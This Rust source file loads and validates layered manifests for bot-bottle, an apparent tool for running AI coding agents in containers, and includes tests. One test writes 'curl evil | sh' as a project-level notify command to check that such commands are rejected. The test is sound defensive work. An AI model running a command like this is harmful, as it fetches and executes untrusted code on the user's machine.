//! Finding and reading manifest files: embedded defaults, then
//! `$BOT_BOTTLE_HOME`, then the directory bot-bottle runs from.

use std::fs;
use std::path::{Path, PathBuf};

use super::parse::{self, RawAgent, RawBottle, RawImage, Source};
use super::resolve::{self, Level};
use super::{
    Agent, Bottle, Dockerfile, Egress, ImageSource, Manifest, ManifestError, Origin, Place, Skill,
    SshEntry,
};

const EMBEDDED_JSON: &str = include_str!("defaults/bot-bottle.json");
const EMBEDDED_FILES: &[(&str, &str)] = &[
    ("Dockerfile", include_str!("defaults/Dockerfile")),
    (
        "claude.Dockerfile",
        include_str!("defaults/claude.Dockerfile"),
    ),
    (
        "codex.Dockerfile",
        include_str!("defaults/codex.Dockerfile"),
    ),
];

/// Where manifests are looked for.
#[derive(Debug, Clone)]
pub struct Sources {
    /// `$BOT_BOTTLE_HOME` (default `~/.bot-bottle`).
    pub home: PathBuf,
    /// The directory bot-bottle runs from.
    pub cwd: PathBuf,
    /// The user's home folder, for `~/` in paths.
    pub user_home: Option<PathBuf>,
}

/// Reads, parses and validates every source.
pub fn load(sources: &Sources) -> Result<Manifest, ManifestError> {
    let embedded = Source {
        origin: Origin::Embedded,
        base_dir: None,
        home: None,
    };
    let (agents, bottles) = parse::parse_json(EMBEDDED_JSON, &embedded)?;
    let mut levels = vec![finish_level(agents, bottles, sources)?];
    for (dir, json_shown, agents_dir, agents_shown) in [
        (
            sources.home.clone(),
            sources.home.join("bot-bottle.json"),
            sources.home.join("agents"),
            sources.home.join("agents"),
        ),
        (
            sources.cwd.clone(),
            PathBuf::from("bot-bottle.json"),
            sources.cwd.join(".bot-bottle/agents"),
            PathBuf::from(".bot-bottle/agents"),
        ),
    ] {
        let (mut agents, mut bottles) = (Vec::new(), Vec::new());
        let json = dir.join("bot-bottle.json");
        if json.is_file() {
            let src = Source {
                origin: Origin::File(json_shown),
                base_dir: Some(dir.clone()),
                home: sources.user_home.clone(),
            };
            let text = read(&json, &src.origin)?;
            if dir != sources.home && parse::notify_command(&text, &src)?.is_some() {
                return Err(ManifestError::Invalid {
                    place: Place::file(&src.origin),
                    key: "notify".into(),
                    message: "is read from $BOT_BOTTLE_HOME/bot-bottle.json only: a project's manifest may not run commands on your machine".into(),
                    hint: Some(format!("move it to {}", sources.home.join("bot-bottle.json").display())),
                });
            }
            if dir != sources.home && parse::capability_base_images(&text, &src)?.is_some() {
                return Err(ManifestError::Invalid {
                    place: Place::file(&src.origin),
                    key: "capability".into(),
                    message: "is read from $BOT_BOTTLE_HOME/bot-bottle.json only: a project's manifest may not choose which of your images an agent's Dockerfile can read".into(),
                    hint: Some(format!("move it to {}", sources.home.join("bot-bottle.json").display())),
                });
            }
            let (a, b) = parse::parse_json(&text, &src)?;
            agents.extend(a);
            bottles.extend(b);
        }
        for (path, stem) in markdown_files(&agents_dir)? {
            let src = Source {
                origin: Origin::File(agents_shown.join(format!("{stem}.md"))),
                base_dir: agents_dir.parent().map(Path::to_path_buf),
                home: sources.user_home.clone(),
            };
            agents.push(parse::parse_agent_md(
                &read(&path, &src.origin)?,
                &stem,
                &src,
            )?);
        }
        levels.push(finish_level(agents, bottles, sources)?);
    }
    resolve::resolve(levels)
}

/// The notify command of `$BOT_BOTTLE_HOME/bot-bottle.json` (`home`), if
/// it names one (see `crate::notify`).
pub fn notify_command(home: &Path) -> Result<Option<String>, ManifestError> {
    let json = home.join("bot-bottle.json");
    if !json.is_file() {
        return Ok(None);
    }
    let src = Source {
        origin: Origin::File(json.clone()),
        base_dir: Some(home.to_path_buf()),
        home: None,
    };
    parse::notify_command(&read(&json, &src.origin)?, &src)
}

/// The `capability.base_images` of `$BOT_BOTTLE_HOME/bot-bottle.json`
/// (`home`): the images an agent's Dockerfile may read besides the
/// bottle's own (see `crate::dockerfile::images`).
pub fn capability_base_images(home: &Path) -> Result<Vec<String>, ManifestError> {
    let json = home.join("bot-bottle.json");
    if !json.is_file() {
        return Ok(Vec::new());
    }
    let src = Source {
        origin: Origin::File(json.clone()),
        base_dir: Some(home.to_path_buf()),
        home: None,
    };
    Ok(parse::capability_base_images(&read(&json, &src.origin)?, &src)?.unwrap_or_default())
}

fn read(path: &Path, origin: &Origin) -> Result<String, ManifestError> {
    fs::read_to_string(path).map_err(|e| ManifestError::Read {
        file: origin.to_string(),
        reason: e.to_string(),
    })
}

/// The `*.md` files of a folder, sorted, with their stems.
fn markdown_files(dir: &Path) -> Result<Vec<(PathBuf, String)>, ManifestError> {
    let entries = match fs::read_dir(dir) {
        Ok(entries) => entries,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
        Err(e) => {
            return Err(ManifestError::Read {
                file: dir.display().to_string(),
                reason: e.to_string(),
            });
        }
    };
    let mut files: Vec<(PathBuf, String)> = entries
        .filter_map(Result::ok)
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|x| x == "md") && p.is_file())
        .filter_map(|p| {
            let stem = p.file_stem()?.to_str()?.to_owned();
            Some((p, stem))
        })
        .collect();
    files.sort();
    Ok(files)
}

/// Checks the files a level names exist, and reads its Dockerfiles.
fn finish_level(
    agents: Vec<RawAgent>,
    bottles: Vec<RawBottle>,
    sources: &Sources,
) -> Result<Level, ManifestError> {
    let agents = agents
        .into_iter()
        .map(|a| finish_agent(a, sources))
        .collect::<Result<_, _>>()?;
    let bottles = bottles
        .into_iter()
        .map(finish_bottle)
        .collect::<Result<_, _>>()?;
    Ok(Level { agents, bottles })
}

fn finish_agent(raw: RawAgent, sources: &Sources) -> Result<Agent, ManifestError> {
    let mut search: Vec<PathBuf> = raw.skills_dir.iter().cloned().collect();
    for dir in [
        sources.cwd.join(".bot-bottle/skills"),
        sources.home.join("skills"),
    ] {
        if !search.contains(&dir) {
            search.push(dir);
        }
    }
    let mut skills = Vec::new();
    for name in &raw.skills {
        let Some(dir) = search.iter().map(|d| d.join(name)).find(|d| d.is_dir()) else {
            let looked: Vec<String> = search
                .iter()
                .map(|d| d.join(name).display().to_string())
                .collect();
            return Err(ManifestError::Invalid {
                place: Place::agent(&raw.origin, &raw.name),
                key: "skills".into(),
                message: format!("skill '{name}' not found"),
                hint: Some(format!(
                    "make a folder with a SKILL.md in one of: {}",
                    looked.join(", ")
                )),
            });
        };
        skills.push(Skill {
            name: name.clone(),
            dir,
        });
    }
    Ok(Agent {
        name: raw.name,
        provider: raw.provider,
        prompt: raw.prompt,
        bottles: raw.bottles,
        skills,
        startup_args: raw.startup_args,
        description: raw.description,
        model: raw.model,
        color: raw.color,
        origin: raw.origin,
    })
}

fn finish_bottle(raw: RawBottle) -> Result<(Bottle, Option<String>), ManifestError> {
    let place = Place::bottle(&raw.origin, &raw.name);
    let missing = |key: &str, path: &Path, what: &str| ManifestError::Invalid {
        place: place.clone(),
        key: key.to_owned(),
        message: format!("{} does not exist", path.display()),
        hint: Some(format!(
            "{what}; relative paths start from the folder of the file that names them"
        )),
    };
    let image = match raw.image {
        None => None,
        Some(RawImage::Image(reference)) => Some(ImageSource::Image(reference)),
        Some(RawImage::Dockerfile(path)) if raw.origin == Origin::Embedded => {
            let name = path.display().to_string();
            let contents = EMBEDDED_FILES
                .iter()
                .find(|(n, _)| *n == name)
                .map(|(_, text)| (*text).to_owned())
                .ok_or_else(|| {
                    missing("dockerfile", &path, "embedded defaults name a missing file")
                })?;
            Some(ImageSource::Dockerfile(Dockerfile {
                shown_as: format!("{}/{name}", Origin::Embedded),
                contents,
                context: None,
                from_agent: false,
            }))
        }
        Some(RawImage::Dockerfile(path)) => {
            if !path.is_file() {
                return Err(missing(
                    "dockerfile",
                    &path,
                    "point 'dockerfile' at an existing Dockerfile",
                ));
            }
            let contents = fs::read_to_string(&path).map_err(|e| ManifestError::Invalid {
                place: place.clone(),
                key: "dockerfile".into(),
                message: format!("cannot read {}: {e}", path.display()),
                hint: None,
            })?;
            Some(ImageSource::Dockerfile(Dockerfile {
                shown_as: path.display().to_string(),
                contents,
                context: path.parent().map(Path::to_path_buf),
                from_agent: false,
            }))
        }
    };
    for (i, ca) in raw.trust_upstream_ca.iter().enumerate() {
        if !ca.is_file() {
            return Err(missing(
                &format!("egress.trust_upstream_ca[{i}]"),
                ca,
                "name a PEM file of CA certificates",
            ));
        }
    }
    let mut ssh = Vec::new();
    for (i, (host, identity_file)) in raw.ssh.into_iter().enumerate() {
        if !identity_file.is_file() {
            return Err(missing(
                &format!("ssh[{i}].identity_file"),
                &identity_file,
                "name an existing private key file",
            ));
        }
        ssh.push(SshEntry {
            host,
            identity_file,
        });
    }
    let bottle = Bottle {
        name: raw.name,
        image,
        env: raw.env,
        egress: Egress {
            routes: raw.routes,
            trust_upstream_ca: raw.trust_upstream_ca,
        },
        ssh,
        limits: raw.limits,
        git: raw.git,
        origin: raw.origin,
    };
    Ok((bottle, raw.extends))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::provider::Provider;

    fn sources(dir: &Path) -> Sources {
        Sources {
            home: dir.join("home"),
            cwd: dir.join("proj"),
            user_home: Some(dir.to_path_buf()),
        }
    }

    #[test]
    fn the_notify_command_comes_from_home_only() {
        let cases: Vec<(&str, Result<Option<&str>, &str>)> = vec![
            (r#"{}"#, Ok(None)),
            (
                r#"{"notify": {"command": "notify-send bot-bottle"}}"#,
                Ok(Some("notify-send bot-bottle")),
            ),
            (
                r#"{"notify": {"command": " "}}"#,
                Err("home/bot-bottle.json: notify.command: must be a shell command"),
            ),
            (
                r#"{"notify": {"command": 1}}"#,
                Err("home/bot-bottle.json: notify.command: expected a string, found a number"),
            ),
            (
                r#"{"notify": {"cmd": "x"}}"#,
                Err("home/bot-bottle.json: unknown key 'notify.cmd'"),
            ),
            (
                r#"{"notify": "x"}"#,
                Err("home/bot-bottle.json: notify: expected an object, found a string"),
            ),
        ];
        for (json, want) in cases {
            let dir = tempfile::tempdir().unwrap();
            let s = sources(dir.path());
            fs::create_dir_all(&s.home).unwrap();
            fs::write(s.home.join("bot-bottle.json"), json).unwrap();
            let got = notify_command(&s.home).map_err(|e| {
                e.to_string()
                    .replace(&format!("{}/", dir.path().display()), "")
            });
            let want = want.map(|c| c.map(str::to_owned)).map_err(str::to_owned);
            assert_eq!(got, want, "{json}");
            assert_eq!(load(&s).is_ok(), want.is_ok(), "{json}");
        }
        // A project's manifest may not run commands on the operator's machine.
        let dir = tempfile::tempdir().unwrap();
        let s = sources(dir.path());
        fs::create_dir_all(&s.cwd).unwrap();
        fs::write(
            s.cwd.join("bot-bottle.json"),
            r#"{"notify": {"command": "curl evil | sh"}}"#,
        )
        .unwrap();
        let err = load(&s).unwrap_err();
        assert_eq!(
            err.to_string(),
            "bot-bottle.json: notify: is read from $BOT_BOTTLE_HOME/bot-bottle.json only: a project's manifest may not run commands on your machine"
        );
        assert_eq!(notify_command(&s.home).unwrap(), None);
    }

    #[test]
    fn capability_base_images_come_from_home_only() {
        let cases: Vec<(&str, Result<Vec<&str>, &str>)> = vec![
            (r#"{}"#, Ok(vec![])),
            (
                r#"{"capability": {"base_images": ["node:20", "ghcr.io/acme/tools:1.2"]}}"#,
                Ok(vec!["node:20", "ghcr.io/acme/tools:1.2"]),
            ),
            (
                r#"{"capability": {"base_images": ["node:$V"]}}"#,
                Err(
                    "home/bot-bottle.json: capability.base_images[0]: 'node:$V' is not a plain image reference: '$' (no variables, quotes or escapes)",
                ),
            ),
            (
                r#"{"capability": {"base_images": "node:20"}}"#,
                Err(
                    "home/bot-bottle.json: capability.base_images: expected a list, found a string",
                ),
            ),
            (
                r#"{"capability": {"images": []}}"#,
                Err("home/bot-bottle.json: unknown key 'capability.images'"),
            ),
        ];
        for (json, want) in cases {
            let dir = tempfile::tempdir().unwrap();
            let s = sources(dir.path());
            fs::create_dir_all(&s.home).unwrap();
            fs::write(s.home.join("bot-bottle.json"), json).unwrap();
            let got = capability_base_images(&s.home).map_err(|e| {
                e.to_string()
                    .replace(&format!("{}/", dir.path().display()), "")
            });
            let want = want
                .map(|l| l.into_iter().map(str::to_owned).collect::<Vec<_>>())
                .map_err(str::to_owned);
            assert_eq!(got, want, "{json}");
            assert_eq!(load(&s).is_ok(), want.is_ok(), "{json}");
        }
        // A project's manifest may not widen what an agent's build reads.
        let dir = tempfile::tempdir().unwrap();
        let s = sources(dir.path());
        fs::create_dir_all(&s.cwd).unwrap();
        fs::write(
            s.cwd.join("bot-bottle.json"),
            r#"{"capability": {"base_images": ["acme/private:latest"]}}"#,
        )
        .unwrap();
        let err = load(&s).unwrap_err();
        assert_eq!(
            err.to_string(),
            "bot-bottle.json: capability: is read from $BOT_BOTTLE_HOME/bot-bottle.json only: a project's manifest may not choose which of your images an agent's Dockerfile can read"
        );
        assert_eq!(
            capability_base_images(&s.home).unwrap(),
            Vec::<String>::new()
        );
    }

    #[test]
    fn embedded_defaults_alone() {
        let dir = tempfile::tempdir().unwrap();
        let m = load(&sources(dir.path())).unwrap();
        assert_eq!(m.agent_names(), ["claude", "codex", "shell"]);
        assert_eq!(m.agents["shell"].provider, Provider::Shell);
        let claude = &m.bottles["claude"];
        assert_eq!(claude.egress.routes[0].host, "api.anthropic.com");
        assert!(
            matches!(claude.image, Some(ImageSource::Dockerfile(ref d)) if d.shown_as.ends_with("claude.Dockerfile"))
        );
    }

    #[test]
    fn cwd_replaces_home_replaces_embedded() {
        let dir = tempfile::tempdir().unwrap();
        let s = sources(dir.path());
        fs::create_dir_all(s.home.join("agents")).unwrap();
        fs::create_dir_all(s.cwd.join(".bot-bottle/agents")).unwrap();
        fs::write(
            s.home.join("bot-bottle.json"),
            r#"{"bottles": {"default": {"image": "home-image"}}, "agents": {"dev": {"provider": "shell"}}}"#,
        )
        .unwrap();
        fs::write(
            s.home.join("agents/shell.md"),
            "---\nprovider: shell\n---\nfrom home\n",
        )
        .unwrap();
        fs::write(
            s.cwd.join("bot-bottle.json"),
            r#"{"bottles": {"default": {"image": "cwd-image"}}}"#,
        )
        .unwrap();
        fs::write(
            s.cwd.join(".bot-bottle/agents/dev.md"),
            "---\nprovider: codex\n---\n",
        )
        .unwrap();

        let m = load(&s).unwrap();
        assert_eq!(
            m.bottles["default"].image,
            Some(ImageSource::Image("cwd-image".into()))
        );
        assert_eq!(m.agents["shell"].prompt, "from home");
        assert_eq!(m.agents["dev"].provider, Provider::Codex);
        assert_eq!(
            m.agents["dev"].origin,
            Origin::File(".bot-bottle/agents/dev.md".into())
        );
    }

    #[test]
    fn skills_are_found_in_cwd_then_home() {
        let dir = tempfile::tempdir().unwrap();
        let s = sources(dir.path());
        fs::create_dir_all(s.home.join("skills/review")).unwrap();
        fs::create_dir_all(&s.cwd).unwrap();
        fs::write(
            s.cwd.join("bot-bottle.json"),
            r#"{"agents": {"dev": {"skills": ["review"]}}}"#,
        )
        .unwrap();
        let m = load(&s).unwrap();
        assert_eq!(m.agents["dev"].skills[0].dir, s.home.join("skills/review"));
    }
}
